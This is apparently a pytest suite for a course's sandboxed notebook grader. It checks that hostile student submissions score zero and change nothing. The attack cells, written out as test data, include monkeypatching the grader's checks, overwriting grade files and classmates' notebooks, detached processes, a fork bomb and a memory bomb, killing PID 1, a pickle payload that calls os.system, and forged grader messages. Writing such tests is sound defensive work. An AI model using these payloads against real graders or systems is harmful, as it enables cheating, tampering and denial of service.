"""Grading end to end: honest submissions, and a battery of hostile ones.

Every submission below is made from notebook 03's exercises (a small notebook: its set-up
and its four exercises) and graded as a real one is: `grade_folder` runs each in the
bubblewrap sandbox and checks it from the test's own process. One grading run serves every
test (it is the expensive part: a sandboxed Python per submission, two at a time).

The hostile submissions are attacks a student who wants marks without answering could try,
each written with full knowledge of the grader's paths (the test writes them in); each must
score 0 and change nothing outside its own scratch folder, while the honest submissions
graded beside them keep their grades.
"""

from __future__ import annotations

import csv
import json
import os
import socket
import sys
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest
from exercise_checks import exercise_cells

import cnn_course
from cnn_course.exercises import _sandbox
from cnn_course.exercises.editions import student_edition
from cnn_course.exercises.grading import (
    HIDDEN_FAILED,
    grade_folder,
    grade_submission,
    main,
)

#: CI sets it: there a missing sandbox is a failure, not a reason to skip these tests.
REQUIRE = os.environ.get("CNN_COURSE_REQUIRE_SANDBOX") == "1"
pytestmark = pytest.mark.skipif(
    bool(_sandbox.unavailable()) and not REQUIRE,
    reason=f"no sandbox here: {_sandbox.unavailable()}",
)

EXERCISES_03 = ["ex03_1", "ex03_2", "ex03_3", "ex03_4"]
#: Marks the processes the attacks leave behind, to look for them afterwards.
MARKER = "cnn_course_attack_marker"
PACKAGE = Path(cnn_course.__file__).resolve().parent


def test_a_sandbox_starts_here() -> None:
    assert _sandbox.unavailable() == ""


# --------------------------------------------------------------------------- the submissions


def _instructor() -> nbformat.NotebookNode:
    cells = [
        nbformat.v4.new_markdown_cell("# 03 · exercises only"),
        nbformat.v4.new_code_cell(
            'import numpy as np\nfrom cnn_course import exercises\ngrader = exercises.Grader("03")'
        ),
    ]
    for parts in exercise_cells("03").values():
        cells += [parts["statement"], parts["answer"], parts["check"]]
    return nbformat.v4.new_notebook(cells=cells)


def _student() -> nbformat.NotebookNode:
    return student_edition(_instructor(), "03")


def _with(nb: nbformat.NotebookNode, code: str, at: int | None = None) -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell(textwrap.dedent(code))
    nb.cells.insert(len(nb.cells) if at is None else at, cell)
    return nb


def _answered(nb: nbformat.NotebookNode, replacements: dict[str, str]) -> nbformat.NotebookNode:
    for cell in nb.cells:
        for old, new in replacements.items():
            cell.source = cell.source.replace(old, new)
    return nb


WRONG = {
    "my_size = ...": "my_size = 3",
    "my_field = ...": "my_field = 7",
    "def my_zero_pad(x, p):\n    ...": "def my_zero_pad(x, p):\n    return x",
    "def my_output_size(n, f, p, s):\n    ...": (
        "def my_output_size(n, f, p, s):\n    return (n + 2 * p - f) / s + 1"
    ),
}
#: Right on the public cases (drawn as the check draws them), and on the cases of the hidden
#: seed the course used to have (1), wrong elsewhere: a table of answers.
TABLE = """
def my_output_size(n, f, p, s):
    import numpy as _np
    table = {(7, 3, 0, 2): 3, (7, 3, 0, 3): 2, (6, 1, 0, 1): 6, (5, 2, 0, 4): 1}
    for seed, count in ((0, 4), (1, 40)):
        rng = _np.random.default_rng(seed)
        for _ in range(count):
            f_ = int(rng.integers(1, 8))
            p_, s_ = int(rng.integers(0, 4)), int(rng.integers(1, 5))
            n_ = int(rng.integers(max(1, f_ - 2 * p_), 40))
            table[(n_, f_, p_, s_)] = (n_ + 2 * p_ - f_) // s_ + 1
    return table.get((n, f, p, s), 0)
"""


def _attacks(folder: Path, grades: Path, port: int, canary: Path) -> dict[str, str]:
    """Attack cells, each added at the end of an unanswered student edition."""
    honest = folder / "03_instructor.ipynb"
    return {
        "patched_checks": """
            import cnn_course.exercises as E
            import cnn_course.exercises._core as C
            import cnn_course.exercises._grader as G
            E.check_exercise = G.check_exercise = lambda *a, **k: None
            for name in ("expect_int", "expect_array", "expect_real", "answer", "call", "forbid"):
                setattr(C, name, lambda *a, **k: None)
            for ex in E.EXERCISES.values():
                object.__setattr__(ex, "check", lambda env, hidden: None)
            E.Grader.check = lambda self, name, env=None: True
            """,
        "patched_references": """
            import cnn_course.ops as o
            import cnn_course.shapes as s
            o.zero_pad = lambda x, p, *a, **k: x
            s.conv_output_size = lambda *a, **k: 3
            s.receptive_field = lambda *a, **k: 7
            my_size, my_field = 3, 7
            def my_zero_pad(x, p):
                return x
            """,
        "patched_otter": """
            import otter
            otter.Notebook.check = lambda *a, **k: True
            import otter.test_files.abstract_test as t
            t.TestFile.score = property(lambda self: 99.0)
            """,
        "showtraceback": """
            get_ipython().showtraceback = lambda *a, **k: None
            get_ipython()._showtraceback = lambda *a, **k: None
            import sys
            sys.excepthook = lambda *a, **k: None
            raise AssertionError("hidden")
            """,
        "writes_everywhere": f"""
            import pathlib
            for target in [{str(PACKAGE / "exercises" / "nb03.py")!r},
                           {str(PACKAGE / "pwned.py")!r}, {str(honest)!r}, {str(grades)!r},
                           {str(folder / "pwned.ipynb")!r}, {str(canary)!r}]:
                try:
                    pathlib.Path(target).write_text("pwned")
                except OSError as err:
                    print("refused:", target, err)
            """,
        "reads_a_classmate": f"""
            import json
            try:
                cells = json.load(open({str(honest)!r}))["cells"]
                for cell in cells:
                    source = "".join(cell["source"])
                    if cell["cell_type"] == "code" and "grader.check" not in source:
                        exec(source)
            except OSError as err:
                print("cannot read:", err)
            """,
        "detached_writer": f"""
            import subprocess
            script = "sleep 4; echo hacked >> {grades}; echo hacked > {canary}"
            subprocess.Popen(["sh", "-c", script + " # {MARKER}"], start_new_session=True)
            subprocess.Popen(["sh", "-c", "(setsid sleep 300 {MARKER} &) ; sleep 0.1"])
            """,
        "network": f"""
            import socket
            for host in ("127.0.0.1", "10.0.2.2", "8.8.8.8"):
                try:
                    socket.create_connection((host, {port}), timeout=2).sendall(b"pwned")
                except OSError as err:
                    print("no network:", host, err)
            """,
        "memory_bomb": """
            try:
                hog = bytearray(40 * 2**30)
            except MemoryError:
                print("refused 40 GB")
            blocks = []
            try:
                while True:
                    blocks.append(bytearray(2**28))
            except MemoryError:
                print("stopped at", len(blocks) / 4, "GB")
            del blocks
            """,
        "output_flood": """
            while True:
                print("x" * 100_000)
            """,
        "exits": """
            import os
            os._exit(0)
            """,
        "kills_its_parent": """
            import os, signal
            for pid in (os.getppid(), 1):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError as err:
                    print("cannot kill", pid, err)
            """,
        "fork_bomb": """
            import os
            children = 0
            try:
                for _ in range(5000):
                    if os.fork() == 0:
                        import time
                        time.sleep(60)
                        os._exit(0)
                    children += 1
            except OSError as err:
                print("stopped after", children, "processes:", err)
            """,
        "reduce_answer": f"""
            import os
            class Evil:
                def __reduce__(self):
                    return (os.system, ("echo hacked > {canary}",))
            class Always(int):
                def __eq__(self, other):
                    return True
                __hash__ = int.__hash__
            my_size = Evil()
            my_field = Always(0)
            def my_zero_pad(x, p):
                return Evil()
            """,
        "forged_messages": """
            import json, os, struct
            def frame(message):
                body = json.dumps(message).encode()
                return struct.pack(">Q", len(body)) + body
            for fd in range(3, 12):
                try:
                    os.write(fd, frame({"ready": True}) + frame({"ok": True, "value": 18}) * 50)
                except OSError:
                    pass
            """,
    }


def _write_submissions(folder: Path, grades: Path, port: int, canary: Path) -> None:
    nbformat.write(_instructor(), folder / "03_instructor.ipynb")
    nbformat.write(_student(), folder / "03_student.ipynb")
    nbformat.write(_answered(_student(), WRONG), folder / "03_wrong.ipynb")
    partial = _answered(_student(), {"my_size = ...": "my_size = 18"})
    partial.cells = [c for c in partial.cells if "my_field" not in c.source]
    nbformat.write(partial, folder / "03_partial.ipynb")
    public_only = _answered(_student(), {"def my_output_size(n, f, p, s):\n    ...": TABLE.strip()})
    nbformat.write(public_only, folder / "03_public_only.ipynb")
    claims = _answered(_student(), {"my_size = ...": "my_size = 18"})
    claims.metadata["cnn_course"] = {"notebook": "00"}
    _with(claims, "my_value = 42")
    nbformat.write(claims, folder / "00_claims_another_notebook.ipynb")
    (folder / "03_not_json.ipynb").write_text("{not json", encoding="utf-8")
    for name, code in _attacks(folder, grades, port, canary).items():
        nbformat.write(_with(_student(), code), folder / f"03_attack_{name}.ipynb")
    nbformat.write(_with(_instructor(), _attacks(folder, grades, port, canary)["exits"]),
                   folder / "03_attack_exits_after_answering.ipynb")  # fmt: skip


class _Listener:
    """A server on the host's loopback that records whoever connects (nobody should)."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.socket.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.socket.close()


def _marked_processes() -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            except OSError:
                continue
            if MARKER in command:
                found.append(f"{entry.name}: {command}")
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("submissions")
    outside = tmp_path_factory.mktemp("outside")
    grades = folder / "grades.csv"
    canary = outside / "canary.txt"
    listener = _Listener()
    _write_submissions(folder, grades, listener.port, canary)
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    package_before = sorted(str(p) for p in PACKAGE.rglob("*") if "__pycache__" not in p.parts)
    limits = _sandbox.Limits(memory=3 * 2**30, output=2**20, processes=128)
    started = time.monotonic()
    rows = grade_folder(folder, "03", timeout=90, jobs=2, limits=limits)
    seconds = time.monotonic() - started
    written = grades.read_text(encoding="utf-8")
    time.sleep(6)  # what a detached process would do after grading
    listener.close()
    yield {
        "folder": folder,
        "rows": rows,
        "csv": written,
        "grades_after": grades.read_text(encoding="utf-8"),
        "before": before,
        "package_before": package_before,
        "canary": canary,
        "connections": listener.connections,
        "seconds": seconds,
    }


def _table(graded) -> dict[tuple[str, str], tuple[float, float]]:
    rows = list(csv.DictReader(graded["csv"].splitlines()))
    return {
        (r["submission"], r["exercise"]): (float(r["score"]), float(r["max_score"])) for r in rows
    }


def _total(graded, submission: str) -> tuple[float, float]:
    mine = [v for (s, _), v in _table(graded).items() if s == submission]
    assert mine, f"{submission} was not graded"
    return sum(v[0] for v in mine), sum(v[1] for v in mine)


# --------------------------------------------------------------------------- honest submissions


def test_grades_csv_has_one_row_per_submission_and_exercise_and_says_how_it_ran(graded) -> None:
    lines = graded["csv"].splitlines()
    assert lines[0] == "submission,exercise,score,max_score,sandbox"
    table = _table(graded)
    submissions = {s for s, _ in table}
    assert submissions == {p.name for p in graded["folder"].glob("*.ipynb")} - {"pwned.ipynb"}
    for submission in submissions:
        assert sorted(e for s, e in table if s == submission) == EXERCISES_03
    assert all(line.endswith(",bubblewrap") for line in lines[1:])


def test_instructor_edition_gets_full_marks_beside_the_attacks(graded) -> None:
    assert _total(graded, "03_instructor.ipynb") == (6.0, 6.0)


@pytest.mark.parametrize("submission", ["03_student.ipynb", "03_wrong.ipynb", "03_not_json.ipynb"])
def test_unanswered_wrong_and_broken_submissions_score_nothing(graded, submission) -> None:
    assert _total(graded, submission) == (0.0, 6.0)


def test_a_deleted_answer_loses_only_its_own_exercise(graded) -> None:
    table = _table(graded)
    assert table[("03_partial.ipynb", "ex03_2")] == (1.0, 1.0)
    assert table[("03_partial.ipynb", "ex03_4")] == (0.0, 1.0)


def test_the_instructor_chooses_the_notebook_not_the_submission(graded) -> None:
    """A submission whose metadata says notebook 00 is graded as 03 all the same."""
    table = _table(graded)
    assert _total(graded, "00_claims_another_notebook.ipynb") == (1.0, 6.0)
    assert table[("00_claims_another_notebook.ipynb", "ex03_2")] == (1.0, 1.0)


def test_a_table_of_answers_gets_the_public_half_only(graded) -> None:
    """The hidden cases come from a secret seed: a table of the old fixed seed's cases fails."""
    assert _total(graded, "03_public_only.ipynb") == (1.0, 6.0)
    assert _table(graded)[("03_public_only.ipynb", "ex03_3")] == (1.0, 2.0)


def test_messages_say_not_yet_and_wrong_ones_say_why(graded) -> None:
    said = {(r.submission, r.exercise): r.messages for r in graded["rows"]}
    for name in EXERCISES_03:
        unanswered = said[("03_student.ipynb", name)]
        assert unanswered and all(m.startswith("not answered yet") for m in unanswered)
        wrong = said[("03_wrong.ipynb", name)]
        assert wrong and not any(m.startswith("not answered") for m in wrong), wrong
    assert said[("03_instructor.ipynb", "ex03_1")] == ()
    assert "3 is not the output size" in said[("03_wrong.ipynb", "ex03_2")][0]


def test_feedback_gives_scores_and_messages_but_not_the_hidden_inputs(graded) -> None:
    feedback = graded["folder"] / "feedback"
    mine = (feedback / "03_public_only.md").read_text(encoding="utf-8")
    assert "**1 / 6** points" in mine
    assert "## Exercise 3.3 · the output-size formula as a function — 1 / 2" in mine
    assert HIDDEN_FAILED in mine
    hidden = next(r for r in graded["rows"] if (r.submission, r.exercise) ==
                  ("03_public_only.ipynb", "ex03_3")).messages[-1]  # fmt: skip
    assert "n=" in hidden and hidden not in mine  # the instructor sees the case; not the student
    assert "3 is not the output size" in (feedback / "03_wrong.md").read_text(encoding="utf-8")
    assert "Passed." in (feedback / "03_instructor.md").read_text(encoding="utf-8")


def test_gradebook_has_a_row_per_student_and_a_column_per_exercise(graded) -> None:
    text = (graded["folder"] / "gradebook.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(text.splitlines()))
    assert text.splitlines()[0] == ",".join(["student", *EXERCISES_03, "total", "max_score"])
    by_student = {row["student"]: row for row in rows}
    assert len(by_student) == len(rows) == len({s for s, _ in _table(graded)})
    assert by_student["03_instructor"]["total"] == "6" == by_student["03_instructor"]["max_score"]
    assert by_student["03_public_only"]["ex03_3"] == "1"
    assert by_student["03_student"]["total"] == "0"
    for student, row in by_student.items():
        scores = [float(row[name]) for name in EXERCISES_03]
        assert sum(scores) == float(row["total"]), student
        assert (graded["folder"] / "feedback" / f"{student}.html").is_file(), student


# --------------------------------------------------------------------------- the attacks


ATTACKS = sorted(
    f"03_attack_{name}.ipynb" for name in _attacks(Path("."), Path("."), 0, Path(".")).keys()
) + ["03_attack_exits_after_answering.ipynb"]


@pytest.mark.parametrize("submission", ATTACKS)
def test_every_attack_scores_nothing(graded, submission) -> None:
    assert _total(graded, submission) == (0.0, 6.0)


def test_no_attack_changed_a_file_outside_its_scratch(graded) -> None:
    folder = graded["folder"]
    for name, content in graded["before"].items():
        assert (folder / name).read_bytes() == content, f"{name} was changed"
    assert not (folder / "pwned.ipynb").exists()
    assert graded["grades_after"] == graded["csv"], "grades.csv changed after grading"
    assert not graded["canary"].exists()
    after = sorted(str(p) for p in PACKAGE.rglob("*") if "__pycache__" not in p.parts)
    assert after == graded["package_before"]
    assert "pwned" not in (PACKAGE / "exercises" / "nb03.py").read_text(encoding="utf-8")


def test_nothing_an_attack_started_survives_its_grading(graded) -> None:
    assert _marked_processes() == []


def test_no_attack_reached_the_network(graded) -> None:
    assert graded["connections"] == 0


def test_the_limits_say_what_stopped_a_submission(tmp_path) -> None:
    attacks = _attacks(tmp_path, tmp_path / "g.csv", 1, tmp_path / "c")
    nbformat.write(_with(_student(), attacks["output_flood"]), tmp_path / "flood.ipynb")
    limits = _sandbox.Limits(output=2**20)
    outcome = grade_submission(tmp_path / "flood.ipynb", "03", timeout=60, limits=limits)
    assert outcome.problem == "printed more than 1 MB" and outcome.total == 0
    nbformat.write(_with(_student(), "while True:\n    pass", at=3), tmp_path / "hangs.ipynb")
    outcome = grade_submission(tmp_path / "hangs.ipynb", "03", timeout=5)
    assert outcome.problem == "stopped after the time limit of 5 s" and outcome.total == 0


def test_what_the_sandbox_sees(tmp_path) -> None:
    """Inside: no grader process, no submissions folder, a read-only course, one writable
    folder."""
    probe = f"""
        import json, os, pathlib
        seen = {{
            "processes": sorted(p for p in os.listdir("/proc") if p.isdigit()),
            "submissions": os.path.exists({str(tmp_path)!r}),
            "home": os.environ["HOME"] == os.getcwd(),
            "grader_env": sorted(k for k in os.environ if k.startswith("PYTEST")),
        }}
        try:
            pathlib.Path({str(PACKAGE / "probe.txt")!r}).write_text("x")
            seen["package_writable"] = True
        except OSError:
            seen["package_writable"] = False
        print("SEEN", json.dumps(seen))
        """
    nbformat.write(_with(_student(), probe), tmp_path / "probe.ipynb")
    from cnn_course.exercises import grading

    captured = {}
    real_finish = _sandbox.Sandboxed.finish

    def finish(self):
        real_finish(self)
        captured["tail"] = self.output_tail.decode()

    _sandbox.Sandboxed.finish = finish
    try:
        grading.grade_submission(tmp_path / "probe.ipynb", "03", timeout=60)
    finally:
        _sandbox.Sandboxed.finish = real_finish
    line = next(x for x in captured["tail"].splitlines() if x.startswith("SEEN "))
    seen = json.loads(line[5:])
    assert len(seen["processes"]) <= 3, seen  # the sandbox's own init and the notebook
    assert seen["submissions"] is False and seen["package_writable"] is False
    assert seen["home"] is True and seen["grader_env"] == []


# --------------------------------------------------------------------------- refusing


def test_grading_refuses_a_missing_folder_or_notebook(tmp_path, capsys) -> None:
    with pytest.raises(ValueError, match="does not exist"):
        grade_folder(tmp_path / "nowhere", "03")
    with pytest.raises(TypeError, match="time limit"):
        grade_folder(tmp_path, "03", timeout=True)
    with pytest.raises(ValueError, match="no exercises for notebook '42'"):
        grade_folder(tmp_path, "42")
    with pytest.raises(SystemExit):
        main([str(tmp_path)])
    assert "say which notebook the submissions are" in capsys.readouterr().err


def test_without_a_sandbox_grading_refuses_unless_told(tmp_path, monkeypatch, capsys) -> None:
    monkeypatch.setattr(_sandbox, "unavailable", lambda: "user namespaces are disabled")
    monkeypatch.setattr(sys.modules["cnn_course.exercises.grading"], "unavailable",
                        lambda: "user namespaces are disabled")  # fmt: skip
    nbformat.write(_instructor(), tmp_path / "03_instructor.ipynb")
    assert main([str(tmp_path), "--notebook", "03"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "user namespaces are disabled" in err and "--no-sandbox" in err
    assert main([str(tmp_path), "--notebook", "03", "--no-sandbox"]) == 0
    lines = (tmp_path / "grades.csv").read_text(encoding="utf-8").splitlines()
    assert lines[1:] and all(line.endswith(",none") for line in lines[1:])
    assert sum(float(line.split(",")[2]) for line in lines[1:]) == 6.0
    assert os.path.exists(tmp_path / "feedback" / "03_instructor.md")


def test_the_checks_run_in_the_mode_the_submission_ran_in(monkeypatch) -> None:
    """Experiment targets depend on quick mode: the grader checks in the submission's mode."""
    from cnn_course import runtime
    from cnn_course.exercises import grading

    monkeypatch.setenv(runtime.QUICK_ENV, "0")
    with grading._mode(quick=True):
        assert runtime.quick_mode() is True
    assert runtime.quick_mode() is False
    monkeypatch.delenv(runtime.QUICK_ENV)
    with grading._mode(quick=False):
        assert runtime.quick_mode() is False
    assert runtime.QUICK_ENV not in os.environ
